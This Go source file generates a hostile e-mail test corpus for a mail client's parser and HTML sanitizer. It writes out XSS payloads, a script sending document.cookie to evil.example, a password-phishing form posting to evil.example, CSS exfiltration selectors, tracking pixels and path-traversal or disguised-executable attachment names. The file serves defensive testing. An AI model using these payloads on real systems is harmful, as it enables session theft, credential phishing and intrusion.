package main

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
)

// hostileMsg is one file of the hostile corpus.
type hostileMsg struct {
	name  string
	tests string // README description
	data  []byte
}

// crlf converts LF line endings to CRLF.
func crlf(s string) []byte { return toCRLF([]byte(s)) }

const hostileHeader = `From: "Hostile Corpus" <hostile@evil.example>
To: Alex Morgan <alex.morgan@lumen.example>
Date: Fri, 13 Nov 2026 13:13:13 +0000
MIME-Version: 1.0
`

// htmlMsg wraps an HTML body (with a short text alternative) into a message.
func htmlMsg(id, subject, htmlBody string) []byte {
	return crlf(hostileHeader + "Subject: " + subject + "\nMessage-ID: <" + id + "@hostile.example>\n" +
		"Content-Type: multipart/alternative; boundary=\"hostile-alt\"\n\n" +
		"--hostile-alt\nContent-Type: text/plain; charset=utf-8\n\nThis message is only interesting in its HTML part.\n\n" +
		"--hostile-alt\nContent-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n" + htmlBody + "\n--hostile-alt--\n")
}

func hostileCorpus() []hostileMsg {
	r := newRNG(seed).fork("hostile")
	var ms []hostileMsg
	add := func(name, tests string, data []byte) { ms = append(ms, hostileMsg{name, tests, data}) }

	add("html-script.eml", "`<script>` in head and body, upper case, split tags (`<scr<script>ipt>`), scripts inside `<noscript>`, `<template>`, `<svg>` and a mutation-XSS `<math>` payload.",
		htmlMsg("html-script", "Quarterly report (script)", `<html><head>
<script>document.location='https://evil.example/steal?c='+document.cookie</script>
<script src="https://evil.example/x.js"></script>
</head><body>
<p>Please find the quarterly figures below.</p>
<SCRIPT type="text/javascript">alert(1)</SCRIPT>
<scr<script>ipt>alert(2)</scr</script>ipt>
<noscript><p title="</noscript><img src=x onerror=alert(3)>"></noscript>
<template><script>alert(4)</script></template>
<svg><script>alert(5)</script></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(6)></style></mglyph></table></mtext></math>
<script type="module">import('https://evil.example/m.js')</script>
</body></html>`))

	add("html-event-handlers.eml", "Event-handler attributes: `onload`, `onerror`, `onclick`, `onmouseover`, `onfocus`+`autofocus`, `ontoggle`, `onstart`, mixed case, whitespace around `=`, slash-separated attributes.",
		htmlMsg("html-events", "Team photo (event handlers)", `<html><body onload="alert('body onload')">
<img src="https://images.example.invalid/team.png" onerror="alert('img onerror')" alt="team">
<div onclick="alert('div onclick')">Click to see the photo</div>
<a href="https://lumen.example/" onmouseover="alert('a onmouseover')">our website</a>
<input autofocus onfocus="alert('input onfocus')">
<details open ontoggle="alert('details ontoggle')"><summary>More</summary></details>
<video><source onerror="alert('source onerror')"></video>
<marquee onstart="alert('marquee onstart')">news</marquee>
<IMG SRC=x ONERROR="alert('upper case')">
<img src=x onerror  =  "alert('spaces')">
<img/src=x/onerror=alert('slashes')>
<svg onload="alert('svg onload')"></svg>
<body onpageshow="alert('second body')">
</body></html>`))

	add("html-javascript-links.eml", "`javascript:` URLs in links, forms, frames and areas, with mixed case, leading whitespace, tab inside the scheme, HTML entities, `&colon;`, and `vbscript:`.",
		htmlMsg("html-jslinks", "Your invoice (javascript: links)", `<html><body>
<a href="javascript:alert(1)">Download invoice</a><br>
<a href="JaVaScRiPt:alert(2)">Mixed case</a><br>
<a href=" javascript:alert(3)">Leading space</a><br>
<a href="java&#x09;script:alert(4)">Tab entity</a><br>
<a href="java	script:alert(5)">Literal tab</a><br>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(6)">Entities</a><br>
<a href="javascript&colon;alert(7)">Named colon</a><br>
<a href="vbscript:msgbox(8)">VBScript</a><br>
<form action="javascript:alert(9)"><button>Pay now</button></form>
<iframe src="javascript:alert(10)"></iframe>
<map name="m"><area shape="rect" coords="0,0,10,10" href="javascript:alert(11)"></map>
<svg><a xlink:href="javascript:alert(12)"><text x="0" y="15">SVG link</text></a></svg>
</body></html>`))

	svgScript := `<svg xmlns="http://www.w3.org/2000/svg"><script>alert('svg in data uri')</script></svg>`
	add("html-data-uris.eml", "`data:` URLs: `text/html` links (plain, base64, upper-case scheme), SVG with script as image source, `data:` in `<object>` and `<iframe>`, and one harmless `data:image/png` for comparison.",
		htmlMsg("html-datauris", "Shared document (data: URIs)", `<html><body>
<a href="data:text/html;base64,`+base64.StdEncoding.EncodeToString([]byte("<script>alert(document.domain)</script>"))+`">Open the shared document</a><br>
<a href="data:text/html,<script>alert(2)</script>">Plain data link</a><br>
<a href="DATA:text/html,<script>alert(3)</script>">Upper-case scheme</a><br>
<img src="data:image/svg+xml;base64,`+base64.StdEncoding.EncodeToString([]byte(svgScript))+`" alt="svg">
<object data="data:text/html,<script>alert(5)</script>"></object>
<iframe src="data:text/html;charset=utf-8,%3Cscript%3Ealert(6)%3C%2Fscript%3E"></iframe>
<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==" alt="1x1 png (harmless)">
</body></html>`))

	svgAtt := `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100" onload="alert('attachment onload')">
  <script type="text/javascript">alert('attachment script');</script>
  <rect width="200" height="100" fill="#36c"/>
  <a xlink:href="javascript:alert('svg link')"><text x="20" y="55" fill="#fff">Quarterly chart</text></a>
  <foreignObject width="200" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/frame"></iframe></foreignObject>
  <image href="https://tracker.example/svg-image.png" width="1" height="1"/>
</svg>
`
	add("svg-script.eml", "SVG with `<script>`, `onload`, `javascript:` links, `<foreignObject>` iframe and remote `<image>`: inline in HTML, as a `cid:` inline image (multipart/related) and as an `image/svg+xml` attachment.",
		crlf(hostileHeader+`Subject: Chart for the board meeting (SVG)
Message-ID: <svg-script@hostile.example>
Content-Type: multipart/mixed; boundary="svg-mixed"

--svg-mixed
Content-Type: multipart/related; type="text/html"; boundary="svg-rel"

--svg-rel
Content-Type: text/html; charset=utf-8

<html><body>
<p>Inline SVG:</p>
<svg xmlns="http://www.w3.org/2000/svg" onload="alert('inline onload')"><script>alert('inline script')</script>
<animate attributeName="href" to="javascript:alert('animate')"/><set attributeName="onmouseover" to="alert('set')"/></svg>
<p>As image:</p><img src="cid:chart-svg@hostile.example" alt="chart">
</body></html>
--svg-rel
Content-Type: image/svg+xml; name="inline-chart.svg"
Content-ID: <chart-svg@hostile.example>
Content-Disposition: inline; filename="inline-chart.svg"

`+svgAtt+`--svg-rel--

--svg-mixed
Content-Type: image/svg+xml; name="chart.svg"
Content-Disposition: attachment; filename="chart.svg"
Content-Transfer-Encoding: base64

`+string(encodeBase64Lines([]byte(svgAtt)))+`--svg-mixed--
`))

	add("css-remote-resources.eml", "CSS that loads remote resources: `@import` (url and string forms), `background:url()`, `@font-face`, `list-style-image`, `content:url()`, CSS escapes hiding `url`, attribute-selector exfiltration, `expression()`, `behavior`, `-moz-binding`, `<link rel=stylesheet>`, and `background` attributes.",
		htmlMsg("css-remote", "Newsletter (remote CSS)", `<html><head>
<link rel="stylesheet" href="https://evil.example/remote.css">
<style>
@import url("https://evil.example/track.css");
@import 'https://evil.example/second.css';
body { background: url(https://tracker.example/bg.png); }
.hero { background-image: url('//tracker.example/protocol-relative.gif'); }
@font-face { font-family: Spy; src: url(https://tracker.example/font.woff2) format("woff2"); }
li { list-style-image: url(https://tracker.example/li.png); }
a::after { content: url(https://tracker.example/after.png); }
.esc { background: \75\72\6C(https://tracker.example/escaped.png); }
@media print { body { background: url(https://tracker.example/print.png); } }
input[value^="a"] { background: url(https://evil.example/leak?prefix=a); }
p { width: expression(alert(1)); }
div { behavior: url(https://evil.example/x.htc); -moz-binding: url(https://evil.example/x.xml#xss); }
</style></head>
<body background="https://tracker.example/body-attr.png">
<div class="hero" style="background:url(&quot;https://tracker.example/inline.png&quot;)">Hello</div>
<div style="background-image: u\rl(https://tracker.example/obfuscated.png)">Obfuscated</div>
<table background="https://tracker.example/table.png"><tr><td background="https://tracker.example/td.png">cell</td></tr></table>
<ul><li>item</li></ul><p class="esc">escaped url</p><input value="alex">
<span style="font-family:Spy">font</span>
</body></html>`))

	add("meta-refresh.eml", "`<meta http-equiv=refresh>` redirects (immediate, delayed, to `javascript:`), in head and body, plus `Set-Cookie` and `Content-Security-Policy` meta tags.",
		htmlMsg("meta-refresh", "Redirecting... (meta refresh)", `<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/phish">
<meta http-equiv="Set-Cookie" content="session=stolen; path=/">
<meta http-equiv="Content-Security-Policy" content="default-src *">
</head><body>
<meta http-equiv=refresh content="5; URL='javascript:alert(1)'">
<META HTTP-EQUIV="Refresh" CONTENT="1;URL=https://evil.example/second">
<p>You are being redirected to your invoice.</p>
</body></html>`))

	add("form-phishing.eml", "Credential-phishing `<form action=http://evil.example/...>` with a password field, `formaction`, `<input type=image>`, prefilled e-mail, and a fake login page look.",
		htmlMsg("form-phishing", "Action required: confirm your password", `<html><body style="font-family:Arial">
<h2>Lumen Mail - session expired</h2>
<p>Please sign in again to keep receiving messages.</p>
<form action="http://evil.example/collect" method="post">
<input type="hidden" name="campaign" value="q4">
<label>E-mail <input name="user" value="alex.morgan@lumen.example"></label><br>
<label>Password <input type="password" name="pw" autocomplete="current-password"></label><br>
<button type="submit">Sign in</button>
<button formaction="http://evil.example/other" formmethod="get">Sign in (alternative)</button>
<input type="image" src="https://evil.example/button.png" alt="Continue">
</form>
<form action="mailto:collect@evil.example" method="post" enctype="text/plain"><textarea name="notes"></textarea><input type="submit"></form>
</body></html>`))

	add("tracking-pixels.eml", "Tracking pixels and other remote loads: 1×1 and zero-size images, hidden images, `srcset`, `<picture>`, `<video poster>`, `<audio>`, `<link rel=prefetch>`, protocol-relative and IP-literal URLs, `lowsrc`/`dynsrc`, e-mail address in the query string.",
		htmlMsg("tracking", "Your weekly summary (tracking)", `<html><head><link rel="prefetch" href="https://tracker.example/prefetch"><link rel="dns-prefetch" href="//tracker.example"></head><body>
<p>Hi Alex, here is your weekly summary.</p>
<img src="https://tracker.example/open.gif?email=alex.morgan%40lumen.example&amp;c=77" width="1" height="1" alt="">
<img src="https://tracker.example/zero.gif" width="0" height="0" style="display:none">
<img src="//tracker.example/protocol-relative.gif" style="visibility:hidden;position:absolute;left:-9999px">
<img src="http://192.0.2.10/ip-literal.gif" width="1" height="1">
<img src="https://cdn.example/logo.png" srcset="https://tracker.example/srcset-1x.png 1x, https://tracker.example/srcset-2x.png 2x" alt="logo">
<picture><source srcset="https://tracker.example/picture.webp" type="image/webp"><img src="https://tracker.example/picture.png"></picture>
<video poster="https://tracker.example/poster.jpg" width="1" height="1"></video>
<audio src="https://tracker.example/beacon.mp3" autoplay></audio>
<img lowsrc="https://tracker.example/lowsrc.gif" dynsrc="https://tracker.example/dynsrc.avi">
<input type="image" src="https://tracker.example/input.gif">
<embed src="https://tracker.example/embed.gif" width="1" height="1">
</body></html>`))

	add("iframe-frames.eml", "`<iframe>` with remote `src`, `srcdoc` containing script, `sandbox` variants, `<frameset>`/`<frame>`, and a `cid:` iframe.",
		htmlMsg("iframes", "Embedded document (iframes)", `<html><body>
<iframe src="https://evil.example/frame" width="600" height="400"></iframe>
<iframe srcdoc="<script>parent.alert(document.cookie)</script>"></iframe>
<iframe sandbox="allow-scripts allow-same-origin" src="https://evil.example/sandbox"></iframe>
<iframe src="cid:frame@hostile.example"></iframe>
<frameset cols="50%,50%"><frame src="https://evil.example/left"><frame src="https://evil.example/right"></frameset>
<noframes>Your client does not support frames.</noframes>
</body></html>`))

	add("object-embed.eml", "Plugin content: `<object>` (Flash, `data:` HTML), `<param>`, `<embed>`, `<applet>`.",
		htmlMsg("object-embed", "Interactive presentation (object/embed)", `<html><body>
<object data="https://evil.example/presentation.swf" type="application/x-shockwave-flash" width="400" height="300">
<param name="movie" value="https://evil.example/presentation.swf"><param name="allowScriptAccess" value="always">
</object>
<embed src="https://evil.example/movie.swf" type="application/x-shockwave-flash" width="400" height="300">
<object data="data:text/html,<script>alert(1)</script>"></object>
<applet code="Evil.class" codebase="https://evil.example/java/" width="1" height="1"></applet>
</body></html>`))

	add("base-href.eml", "`<base href>` pointing at another site so that relative links, images and form actions resolve there; `<base target>`.",
		htmlMsg("base-href", "Account statement (base href)", `<html><head><base href="https://evil.example/"><base target="_top"></head><body>
<p><a href="login">Sign in to view your statement</a></p>
<img src="images/logo.png" alt="logo">
<form action="collect" method="post"><input type="password" name="pw"><button>Go</button></form>
<a href="/absolute-path">absolute path</a> <a href="#fragment">fragment</a>
</body></html>`))

	add("malformed-html.eml", "Malformed and unclosed HTML: unterminated attributes and comments, scripts hidden in comments and CDATA, `<title>`/`<textarea>` content, doubled `<html>`, stray closing tags, and an unclosed tag at end of input.",
		htmlMsg("malformed", "Broken HTML", `<html><html><head><title><script>alert('title')</script></title></head>
<body><div><p>Unclosed paragraph <b>bold <i>bold-italic</b> italic?</p>
<table><td>cell without row<tr>row after cell</table></table></table>
<img src="x" alt="unterminated attribute>
<a href="https://example.com/ <b>link text
<!-- <script>alert('in comment')</script> -->
<!--><script>alert('short comment')</script>-->
<![CDATA[<script>alert('cdata')</script>]]>
<<script>script>alert('double lt')<</script>/script>
<textarea><script>alert('textarea')</script></textarea>
<style></style><script
>alert('newline in tag')</script
>
</p></div></body></html></html>
<div style="color:red" class="unclosed`))

	// Header-level attacks against the message list and reader.
	evilSubject := "<script>alert('subject')</script> Invoice\r\nBcc: victim@example.com"
	add("header-injection-xss.eml", "HTML and CR/LF hidden in RFC 2047 encoded words (subject, display names), a Message-ID and References with markup, a `javascript:` Reply-To, and a plain-text body containing `<script>` that must be shown as text.",
		crlf(`From: =?UTF-8?Q?=3Cimg_src=3Dx_onerror=3Dalert(1)=3E?= <attacker@evil.example>
To: "\"><svg onload=alert(2)>" <alex.morgan@lumen.example>
Cc: =?UTF-8?B?`+base64.StdEncoding.EncodeToString([]byte("</td><script>alert(3)</script>"))+`?= <cc@evil.example>
Reply-To: "javascript:alert(4)" <javascript:alert(4)@evil.example>
Subject: =?UTF-8?B?`+base64.StdEncoding.EncodeToString([]byte(evilSubject))+`?=
Date: Fri, 13 Nov 2026 13:13:13 +0000
Message-ID: <"><script>alert(5)</script>@evil.example>
References: <a@evil.example> <"><img src=x onerror=alert(6)>@evil.example>
In-Reply-To: <"><img src=x onerror=alert(7)>@evil.example>
X-Mailer: <b>HTML in X-Mailer</b>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

Hello,

<script>alert('plain text body')</script>
<a href="javascript:alert(8)">not a link in text/plain</a>

https://evil.example/"><script>alert(9)</script>
`))

	longName := strings.Repeat("very-long-file-name-", 15) + ".pdf"
	add("attachment-filenames.eml", "Dangerous attachment names: path traversal (`../`, `..\\`), absolute paths, a right-to-left override (`invoice\\u202Efdp.exe`), Windows reserved names, trailing spaces before the real extension, an encoded NUL, markup in a name, an empty name, a 300-character name, and an HTML file declared as `image/jpeg`.",
		crlf(hostileHeader+`Subject: Documents (attachment names)
Message-ID: <attachment-names@hostile.example>
Content-Type: multipart/mixed; boundary="names"

--names
Content-Type: text/plain; charset=utf-8

Eleven attachments with hostile names.

--names
Content-Type: text/plain; name="../../../../etc/passwd"
Content-Disposition: attachment; filename="../../../../etc/passwd"

root:x:0:0:root:/root:/bin/bash
--names
Content-Type: application/octet-stream
Content-Disposition: attachment; filename="..\..\Windows\System32\drivers\etc\hosts"

127.0.0.1 bank.example
--names
Content-Type: application/octet-stream
Content-Disposition: attachment; filename="/tmp/absolute.sh"

#!/bin/sh
echo owned
--names
Content-Type: application/x-msdownload
Content-Disposition: attachment; filename*=UTF-8''invoice%E2%80%AEfdp.exe

MZ fake executable
--names
Content-Type: text/plain
Content-Disposition: attachment; filename="CON.txt"

reserved device name
--names
Content-Type: application/pdf
Content-Disposition: attachment; filename="statement.pdf                                                  .exe"

MZ fake executable with spaces
--names
Content-Type: application/pdf
Content-Disposition: attachment; filename*=UTF-8''report%00.pdf.exe

NUL in name
--names
Content-Type: text/html
Content-Disposition: attachment; filename="<img src=x onerror=alert(1)>.html"

<script>alert('html attachment')</script>
--names
Content-Type: application/octet-stream
Content-Disposition: attachment; filename=""

empty name
--names
Content-Type: application/pdf
Content-Disposition: attachment; filename="`+longName+`"

long name
--names
Content-Type: image/jpeg; name="photo.jpg"
Content-Disposition: inline; filename="photo.jpg"

<html><body><script>alert('html sniffed as image')</script></body></html>
--names--
`))

	add("unknown-charset.eml", "Unknown charsets: `charset=x-unknown` body and encoded-word subject, a quoted `charset=\"utf-8\\\"\"`, and a UTF-7 HTML part with the classic `+ADw-script+AD4-` payload.",
		append(crlf(`From: Charset Tester <charset@evil.example>
To: alex.morgan@lumen.example
Subject: =?x-unknown?Q?Caf=E9_cr=E8me?= and =?utf-8?Q?ok=C3=A9?=
Date: Fri, 13 Nov 2026 13:13:13 +0000
Message-ID: <unknown-charset@hostile.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="cs"

--cs
Content-Type: text/plain; charset=x-unknown
Content-Transfer-Encoding: 8bit

`), append([]byte("Caf\xe9 cr\xe8me br\xfbl\xe9e \x80\x81\x82 (bytes in an unknown charset)\r\n"), crlf(`--cs
Content-Type: text/plain; charset="utf-8\""

Quoted charset parameter with an escaped quote.
--cs
Content-Type: text/html; charset=utf-7

<html><body>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</body></html>
--cs--
`)...)...))

	add("raw-8bit-headers.eml", "Raw 8-bit header values: UTF-8 without encoded words in Subject/From/To, and Latin-1 bytes that are invalid UTF-8.",
		append(crlf(`From: Jürgen Müller <juergen@evil.example>
To: Ålex Mörgan <alex.morgan@lumen.example>
Subject: Café société – naïve résumé 日本語 Ελληνικά
Date: Fri, 13 Nov 2026 13:13:13 +0000
Message-ID: <raw-8bit-headers@hostile.example>
`), append([]byte("X-Latin1: Gr\xfc\xdfe aus M\xfcnchen\r\nX-Broken-UTF8: \xc3\x28 \xe2\x82 \xff\xfe\r\n"), crlf(`MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Body is valid UTF-8: grüße.
`)...)...))

	add("missing-boundary.eml", "`multipart/mixed` without a `boundary` parameter although the body contains delimiter-like lines.",
		crlf(hostileHeader+`Subject: Missing boundary
Message-ID: <missing-boundary@hostile.example>
Content-Type: multipart/mixed

--something
Content-Type: text/plain

part one
--something
Content-Type: text/html

<p>part two</p>
--something--
`))

	add("unterminated-multipart.eml", "A multipart whose closing delimiter never comes: the last part (base64 PNG) is cut off mid-line, and a nested multipart declares a boundary that never appears.",
		crlf(hostileHeader+`Subject: Unterminated multipart
Message-ID: <unterminated-multipart@hostile.example>
Content-Type: multipart/mixed; boundary="outer"

--outer
Content-Type: text/plain; charset=utf-8

First part is fine.
--outer
Content-Type: multipart/alternative; boundary="never-used"

This nested multipart never uses its boundary.
--outer
Content-Type: image/png; name="cut.png"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="cut.png"

iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmM
iVBORw0KGgoAAAANSUhEUgAAA`))

	add("unknown-transfer-encoding.eml", "Unknown or misspelled Content-Transfer-Encoding values: `x-uuencode` (with a real uuencoded body), `bogus`, `base-64`, and `8bit` on a part containing only 7-bit data.",
		crlf(hostileHeader+`Subject: Unknown transfer encodings
Message-ID: <unknown-cte@hostile.example>
Content-Type: multipart/mixed; boundary="cte"

--cte
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: x-uuencode

begin 644 hello.txt
.2&5L;&\L('=O<FQD(0H`+"`"+`
`+"`"+`
end
--cte
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: bogus

Bogus transfer encoding.
--cte
Content-Type: application/octet-stream; name="data.bin"
Content-Transfer-Encoding: base-64

SGVsbG8sIHdvcmxkIQ==
--cte
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 8bit

Plain 7-bit text labelled 8bit.
--cte--
`))

	add("nul-bytes.eml", "NUL bytes in header values (Subject, a custom header) and in text and HTML bodies, including `<scr\\0ipt>`.",
		bytes.Join([][]byte{
			[]byte("From: Null Sender <null@evil.example>\r\nTo: alex.morgan@lumen.example\r\n"),
			[]byte("Subject: Hello\x00World\r\nX-Null: a\x00b\x00c\r\n"),
			crlf(`Date: Fri, 13 Nov 2026 13:13:13 +0000
Message-ID: <nul-bytes@hostile.example>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="nul"

--nul
Content-Type: text/plain; charset=utf-8

`),
			[]byte("Text with a NUL here:\x00: and two more\x00\x00.\r\n"),
			crlf("--nul\nContent-Type: text/html; charset=utf-8\n\n"),
			[]byte("<p>HTML with <scr\x00ipt>alert(1)</scr\x00ipt> and \x00 bytes</p>\r\n"),
			crlf("--nul--\n"),
		}, nil))

	inner := crlf(`From: Jürgen Müller <jürgen@müller.example>
To: Ålex <alex@lumen.example>
Subject: Internationalized headers (RFC 6532) – ünïcödé
Date: Fri, 13 Nov 2026 12:00:00 +0100
Message-ID: <global-inner@müller.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Inner message with raw UTF-8 headers and an EAI address.
`)
	add("message-global.eml", "`message/global` (RFC 6532) attachment whose headers are raw UTF-8 with an internationalized address (`jürgen@müller.example`).",
		append(crlf(hostileHeader+`Subject: Forwarded: internationalized message
Message-ID: <message-global@hostile.example>
Content-Type: multipart/mixed; boundary="glob"

--glob
Content-Type: text/plain; charset=utf-8

See the attached message/global.
--glob
Content-Type: message/global
Content-Disposition: attachment; filename="forwarded.u8msg"
Content-Transfer-Encoding: 8bit

`), append(inner, crlf("--glob--\n")...)...))

	var deep strings.Builder
	deep.WriteString(hostileHeader + "Subject: 40 levels of multipart nesting\nMessage-ID: <deep-nesting@hostile.example>\n")
	const depth = 40
	for i := 0; i < depth; i++ {
		fmt.Fprintf(&deep, "Content-Type: multipart/mixed; boundary=\"level-%02d\"\n\n--level-%02d\n", i, i)
	}
	deep.WriteString("Content-Type: text/plain; charset=utf-8\n\nYou found the bottom (level 40).\n")
	for i := depth - 1; i >= 0; i-- {
		fmt.Fprintf(&deep, "--level-%02d--\n", i)
	}
	add("deep-nesting-40.eml", "40 nested `multipart/mixed` levels with a single text part at the bottom (recursion limits in parsers and BODYSTRUCTURE).", crlf(deep.String()))

	add("empty.eml", "A 0-byte file.", []byte{})

	add("headers-only.eml", "Header fields only: no empty line and no body.",
		crlf("From: Headers Only <headers@evil.example>\nTo: alex.morgan@lumen.example\nSubject: Headers only, no body\nDate: Fri, 13 Nov 2026 13:13:13 +0000\nMessage-ID: <headers-only@hostile.example>\n"))

	long := make([]byte, 100*1024)
	for i := range long {
		long[i] = "abcdefghijklmnopqrstuvwxyz0123456789"[i%36]
	}
	add("long-header-line-100k.eml", "A single unfolded 100 KB header line (`X-Long-Header`), well beyond the RFC 5322 limit of 998 characters, plus a 2 KB unfolded Subject.",
		crlf(hostileHeader+"Subject: "+strings.Repeat("Long subject ", 160)+"\nMessage-ID: <long-header@hostile.example>\nX-Long-Header: "+string(long)+"\nContent-Type: text/plain; charset=us-ascii\n\nThe header above is 100 KB long.\n"))

	add("broken-base64.eml", "Broken base64: invalid characters, padding in the middle, a truncated final quantum, and an image part that is not base64 at all.",
		crlf(hostileHeader+`Subject: Broken base64
Message-ID: <broken-base64@hostile.example>
Content-Type: multipart/mixed; boundary="b64"

--b64
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: base64

SGVsbG8gd29ybGQh!!!!$$$$
SGVs=bG8g
d29yb
--b64
Content-Type: image/png; name="broken.png"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="broken.png"

This is not base64 at all; it is a sentence.
--b64--
`))

	big := r.bytes(2 * 1024 * 1024)
	add("large-attachment-2mb.eml", "A 2 MiB binary attachment (deterministic pseudo-random bytes, ~2.8 MB base64) for size limits and streaming.",
		append(crlf(hostileHeader+`Subject: Backup (2 MB attachment)
Message-ID: <large-attachment@hostile.example>
Content-Type: multipart/mixed; boundary="big"

--big
Content-Type: text/plain; charset=utf-8

The attached file is 2,097,152 bytes.

--big
Content-Type: application/octet-stream; name="backup.bin"
Content-Disposition: attachment; filename="backup.bin"; size=2097152
Content-Transfer-Encoding: base64

`), append(encodeBase64Lines(big), crlf("--big--\n")...)...))

	add("duplicate-headers.eml", "Every important header twice: From, To, Subject, Date, Message-ID, MIME-Version, Content-Type (plain vs html) and Content-Transfer-Encoding.",
		crlf(`From: First Sender <first@evil.example>
From: Second Sender <second@evil.example>
To: alex.morgan@lumen.example
To: someone-else@evil.example
Subject: First subject
Subject: Second subject
Date: Fri, 13 Nov 2026 13:13:13 +0000
Date: Mon, 01 Jan 2001 00:00:00 +0000
Message-ID: <duplicate-1@hostile.example>
Message-ID: <duplicate-2@hostile.example>
MIME-Version: 1.0
MIME-Version: 2.0
Content-Type: text/plain; charset=utf-8
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: 7bit
Content-Transfer-Encoding: base64

<p>Which Content-Type wins? <script>alert(1)</script></p>
`))

	add("missing-date-from.eml", "No Date, From, Sender or Message-ID header.",
		crlf("To: alex.morgan@lumen.example\nSubject: No date, no sender\nMIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n\nWho sent this, and when?\n"))

	add("bare-lf-line-endings.eml", "Bare LF line endings throughout, and a part with bare CR line endings.",
		[]byte("From: Unix Sender <lf@evil.example>\nTo: alex.morgan@lumen.example\nSubject: Bare LF line endings\nDate: Fri, 13 Nov 2026 13:13:13 +0000\nMessage-ID: <bare-lf@hostile.example>\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"lf\"\n\n--lf\nContent-Type: text/plain; charset=utf-8\n\nLF only.\n--lf\nContent-Type: text/plain; charset=utf-8\n\nCR\ronly\rlines\r--lf--\n"))

	sort.Slice(ms, func(i, j int) bool { return ms[i].name < ms[j].name })
	return ms
}

// writeHostile writes the hostile corpus and its README.md to dir, removing
// stale .eml files first.
func writeHostile(dir string) (n int, size int64, err error) {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return 0, 0, err
	}
	old, _ := filepath.Glob(filepath.Join(dir, "*.eml"))
	for _, f := range old {
		if err := os.Remove(f); err != nil {
			return 0, 0, err
		}
	}
	ms := hostileCorpus()
	for _, m := range ms {
		if err := os.WriteFile(filepath.Join(dir, m.name), m.data, 0o644); err != nil {
			return 0, 0, err
		}
		size += int64(len(m.data))
	}
	if err := os.WriteFile(filepath.Join(dir, "README.md"), hostileReadme(ms), 0o644); err != nil {
		return 0, 0, err
	}
	if err := os.WriteFile(filepath.Join(dir, ".gitattributes"), []byte(hostileGitattributes), 0o644); err != nil {
		return 0, 0, err
	}
	return len(ms), size, nil
}

// hostileGitattributes keeps git from touching line endings (or anything
// else) in the deliberately broken files.
const hostileGitattributes = "*.eml -text\n"

func hostileReadme(ms []hostileMsg) []byte {
	var b bytes.Buffer
	b.WriteString(`# Hostile message corpus

Broken and malicious messages for testing the parser, the cache and the HTML
sanitizer. Every file is generated by ` + "`go run ./internal/demogen -hostile testdata/hostile`" + `
(deterministic; do not edit by hand). The messages are deliberately invalid in
many ways, so code must not assume that they parse, that they have CRLF line
endings, or that their headers are valid UTF-8. Unlike ` + "`testdata/demo`" + `, they
are not expected to round-trip through go-message without errors.

All domains are reserved example names (RFC 2606); the payloads only call
` + "`alert()`" + ` or point at ` + "`evil.example`" + ` / ` + "`tracker.example`" + `.

| File | Size | What it tests |
| --- | ---: | --- |
`)
	for _, m := range ms {
		fmt.Fprintf(&b, "| `%s` | %s | %s |\n", m.name, humanSize(len(m.data)), strings.ReplaceAll(m.tests, "|", `\|`))
	}
	return b.Bytes()
}

func humanSize(n int) string {
	switch {
	case n >= 1<<20:
		return fmt.Sprintf("%.1f MiB", float64(n)/(1<<20))
	case n >= 1<<10:
		return fmt.Sprintf("%.1f KiB", float64(n)/(1<<10))
	}
	return fmt.Sprintf("%d B", n)
}

func sortedKeys[V any](m map[string]V) []string {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	return keys
}
